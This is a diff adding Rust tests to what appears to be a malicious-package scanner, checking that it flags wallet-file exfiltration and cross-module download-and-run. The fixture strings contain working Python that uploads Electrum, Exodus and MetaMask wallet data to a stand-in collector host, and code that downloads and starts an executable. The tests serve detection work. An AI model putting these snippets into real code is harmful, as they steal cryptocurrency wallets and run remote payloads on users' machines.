@@ -1511,3 +1511,56 @@ fn a_dns_lookup_of_who_installs_is_a_beacon() {
     let own_ping = "import os\nfrom setuptools import setup\nos.system('ping -c 1 $(hostname)')\nsetup(name='x')\n";
     assert_eq!(severity_of("setup.py", own_ping, "install-beacon"), None);
 }
+
+/// Desktop and browser wallets are credential stores like a browser's
+/// cookies: their folders (`~/.electrum/wallets`, `%APPDATA%/Exodus`) and
+/// browser wallets' extension ids, sent to an address in the code, are
+/// exfiltration. Written for the test.
+#[test]
+fn wallet_stores_sent_out_are_exfiltration() {
+    let electrum = "import glob, os, requests\nHOOK = 'https://collector.example.net/u'\ndef grab():\n    \
+                    for f in glob.glob(os.path.expanduser('~/.electrum/wallets/*')):\n        \
+                    requests.post(HOOK, files={'f': open(f, 'rb')})\ngrab()\n";
+    assert_eq!(severity_of("pkg/__init__.py", electrum, "exfiltration"), Some(Severity::Critical));
+    let exodus = "import os, urllib.request\np = os.path.join(os.getenv('APPDATA'), 'Exodus', 'exodus.wallet')\n\
+                  data = open(os.path.join(p, 'seed.seco'), 'rb').read()\n\
+                  urllib.request.urlopen(urllib.request.Request('https://collector.example.net/u', data=data))\n";
+    assert_eq!(severity_of("pkg/__init__.py", exodus, "exfiltration"), Some(Severity::Critical));
+    let metamask = "import os, shutil, requests\nsrc = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', \
+                    'User Data', 'Default', 'Local Extension Settings', 'nkbihfbeogaeaoehlefnkodbefgpgknn')\n\
+                    shutil.make_archive('v', 'zip', src)\nrequests.post('https://collector.example.net/u', files={'v': open('v.zip', 'rb')}, data={'src': src})\n";
+    assert_eq!(severity_of("pkg/__init__.py", metamask, "exfiltration"), Some(Severity::Critical));
+    // A wallet library naming its own data folder sends nothing.
+    let config =
+        "import os\nDATA = os.path.expanduser('~/.electrum')\ndef path(name):\n    return os.path.join(DATA, name)\n";
+    assert_eq!(severity_of("pkg/config.py", config, "exfiltration"), None);
+}
+
+/// A download saved to a path (`urlretrieve(url, path)`) makes the path
+/// name fetched content: a module's function that returns it, started by
+/// another module as it loads, is a download run from another file.
+/// Written for the test.
+#[test]
+fn a_downloaded_file_returned_to_another_module_and_started_is_download_and_run() {
+    let dl = "import os, tempfile, urllib.request\nURL = 'https://files.example.net/tool.exe'\ndef fetch():\n    \
+              p = os.path.join(tempfile.gettempdir(), 'svc.exe')\n    urllib.request.urlretrieve(URL, p)\n    return p\n";
+    let init = "import subprocess\nfrom .dl import fetch\nsubprocess.Popen([fetch()])\n";
+    let entries =
+        [Entry { path: "pkg/dl.py", bytes: dl.as_bytes() }, Entry { path: "pkg/__init__.py", bytes: init.as_bytes() }];
+    let report = scan(&ManifestFacts::default(), &entries);
+    let f = report
+        .findings
+        .iter()
+        .find(|f| f.rule == "process-decoded" && f.file == "pkg/__init__.py")
+        .unwrap_or_else(|| panic!("{:#?}", report.findings));
+    assert_eq!(f.severity, Severity::Critical);
+    assert!(f.because.iter().any(|b| b.contains("`fetch` (pkg/dl.py")), "{:?}", f.because);
+    // The path of a file read from disk and started is no download.
+    let local = dl.replace("    urllib.request.urlretrieve(URL, p)\n", "");
+    let entries = [
+        Entry { path: "pkg/dl.py", bytes: local.as_bytes() },
+        Entry { path: "pkg/__init__.py", bytes: init.as_bytes() },
+    ];
+    let report = scan(&ManifestFacts::default(), &entries);
+    assert!(!report.findings.iter().any(|f| f.rule == "process-decoded"), "{:#?}", report.findings);
+}
